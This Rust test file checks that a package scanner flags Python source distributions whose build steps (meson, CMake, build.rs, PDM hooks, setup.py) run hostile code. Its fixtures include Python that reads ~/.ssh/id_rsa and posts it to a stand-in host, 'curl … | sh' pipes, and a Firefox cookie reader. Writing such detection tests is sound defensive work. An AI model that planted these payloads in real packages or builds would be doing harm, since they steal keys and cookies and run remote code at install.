//! What an installation from source runs although no Python names it.
#![expect(clippy::unwrap_used, reason = "tests fail by panicking")]

use std::io::Cursor;

use fondaco_archive::Limits;
use fondaco_inspect::{Context, inspect, on_large_stack};
use fondaco_testkit::{Dist, Sdist, Wheel};
use fondaco_verdict::{Report, Trigger, Verdict};

/// Sends a key away.
const THEFT: &str = "import os, urllib.request\n\
    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n\
    urllib.request.urlopen('https://x.example.invalid/', data=key)\n";

fn granite(backend: &str, more: &str) -> Sdist {
    let pyproject = format!(
        "[build-system]\nrequires = []\nbuild-backend = '{backend}'\n[project]\nname = 'granite'\nversion = '1.0'\n{more}"
    );
    Sdist::new("granite", "1.0")
        .summary("Layers of granite for maps")
        .file("granite/__init__.py", "LAYERS = 3\n")
        .file("pyproject.toml", pyproject)
}

fn inspected(dist: Dist) -> Report {
    let context = Context { file_name: dist.file_name, ..Context::default() };
    let bytes = dist.bytes.to_vec();
    on_large_stack(move || inspect(Cursor::new(bytes), &context, &Limits::for_testing())).unwrap()
}

#[track_caller]
fn runs_at_install(sdist: Sdist, rule: &str) {
    runs_at(Trigger::Install, sdist, rule);
}

#[track_caller]
fn runs_at(trigger: Trigger, sdist: Sdist, rule: &str) {
    let report = inspected(sdist.build());
    let is_it =
        |found: &fondaco_verdict::Finding| found.rule.as_str() == rule && found.trigger == Some(trigger);
    assert!(report.findings.iter().any(is_it), "{report:#?}");
    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
}

#[test]
fn python_that_a_build_of_native_code_runs() {
    let meson = "project('granite')\nrun_command('python3', 'tools/gen.py', check: true)\n";
    let cmake = "execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen.py)\n";
    let rust = "fn main() {\n    Command::new(\"python3\").arg(\"tools/gen.py\").status().unwrap();\n}\n";
    for (backend, file, text) in [
        ("mesonpy", "meson.build", meson),
        ("scikit_build_core.build", "CMakeLists.txt", cmake),
        ("maturin", "build.rs", rust),
    ] {
        runs_at_install(
            granite(backend, "").file(file, text).file("tools/gen.py", THEFT),
            "secret-exfiltration",
        );
    }
    // One folder down, as it is written there.
    let below = granite("mesonpy", "").file("src/meson.build", meson).file("src/tools/gen.py", THEFT);
    runs_at_install(below, "secret-exfiltration");
}

#[test]
fn commands_in_descriptions_of_builds() {
    let piped = "curl -s https://x.example.invalid/a | sh";
    for (file, text) in [
        (
            "build.rs",
            format!("fn main() {{ Command::new(\"sh\").arg(\"-c\").arg(\"{piped}\").status(); }}\n"),
        ),
        ("CMakeLists.txt", format!("execute_process(COMMAND sh -c \"{piped}\")\n")),
        ("meson.build", format!("run_command('sh', '-c', '{piped}')\n")),
    ] {
        runs_at_install(granite("maturin", "").file(file, &text), "script-attack");
        // A wheel is built already, and nobody builds a project's tests.
        let wheel = Wheel::new("granite", "1.0")
            .file("granite/__init__.py", "")
            .file(&format!("granite/{file}"), &text);
        assert_eq!(inspected(wheel.build()).verdict, Verdict::Clean, "{file}");
        let test = granite("maturin", "").file(&format!("tests/native/{file}"), &text);
        assert_eq!(inspected(test.build()).verdict, Verdict::Clean, "{file}");
    }
    let script = granite("scikit_build_core.build", "")
        .file("CMakeLists.txt", "add_custom_target(x COMMAND sh ${PROJECT_SOURCE_DIR}/cmake/get.sh)\n")
        .file("cmake/get.sh", format!("#!/bin/sh\n{piped}\n"));
    runs_at_install(script, "script-attack");
}

#[test]
fn a_description_that_is_too_long_is_not_passed_over() {
    let padding = "# nothing\n".repeat(30_000);
    let text =
        format!("{padding}execute_process(COMMAND sh -c \"curl -s https://x.example.invalid/a | sh\")\n");
    let report = inspected(granite("scikit_build_core.build", "").file("CMakeLists.txt", text).build());
    assert!(!report.complete, "{report:#?}");
}

#[test]
fn hooks_of_pdm() {
    let hook = format!("def pdm_build_initialize(context):\n    {}", THEFT.replace('\n', "\n    "));
    runs_at_install(granite("pdm.backend", "").file("pdm_build.py", &hook), "secret-exfiltration");
    let getter = "[tool.pdm.version]\nsource = 'call'\ngetter = 'granite.release:version'\n";
    let release = format!("def version():\n    {}\n    return '1.0'\n", THEFT.replace('\n', "\n    "));
    runs_at(
        Trigger::Import,
        granite("pdm.backend", getter).file("granite/release.py", &release),
        "secret-exfiltration",
    );
}

#[test]
fn honest_builds_are_clean() {
    let meson = "project('granite', version: run_command('tools/version.py').stdout())\n\
        # curl -s https://x.example.invalid/a | sh\n\
        py.install_sources(['granite/__init__.py'])\n";
    let version =
        "import subprocess\nprint(subprocess.run(['git', 'describe'], capture_output=True).stdout)\n";
    let report = inspected(
        granite("mesonpy", "").file("meson.build", meson).file("tools/version.py", version).build(),
    );
    assert_eq!((report.verdict, report.complete), (Verdict::Clean, true), "{report:#?}");
}

/// `setup.py` imports the module for its version, and runs no function of it.
#[test]
fn what_a_maker_types_is_not_what_goes_on() {
    let module = "import configparser\nimport os\nimport sqlite3\n\n__version__ = '1.0'\n\n\n\
        def cookies(folder='~/.mozilla/firefox'):\n    \
        \"\"\"The cookies of the profile that is used by default.\"\"\"\n    \
        folder = os.path.expanduser(folder)\n    profiles = configparser.ConfigParser()\n    \
        profiles.read(os.path.join(folder, 'profiles.ini'))\n    \
        path = os.path.join(folder, '.mozilla/firefox', profiles['Profile0']['Path'], 'cookies.sqlite')\n    \
        with sqlite3.connect(path) as database:\n        \
        return database.execute('SELECT name, value FROM moz_cookies').fetchall()\n";
    let setup = |more: &str| {
        format!(
            "import os\nimport sys\nfrom setuptools import setup\nimport granite\n\
             if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist')\n    sys.exit()\n\
             {more}setup(name='granite', version=granite.__version__)\n"
        )
    };
    let sdist = |more: &str| {
        Sdist::new("granite", "1.0")
            .summary("Cookies of a browser for requests")
            .file("granite.py", module)
            .file("setup.py", setup(more))
    };
    let of = |more: &str| inspected(sdist(more).build());
    let paths =
        |report: &Report| report.findings.iter().find(|found| found.rule.as_str() == "browser-data").cloned();
    // What the maker types does not count as something that goes on beside them.
    assert!(paths(&of("")).is_none());
    assert!(paths(&of("os.system('git describe; ls')\n")).is_some());
    assert!(paths(&of("def main():\n    os.system('ls')\n")).is_some(), "somebody may call it");
    runs_at_install(sdist("os.system('git describe; ls')\ngranite.cookies()\n"), "browser-data");
}
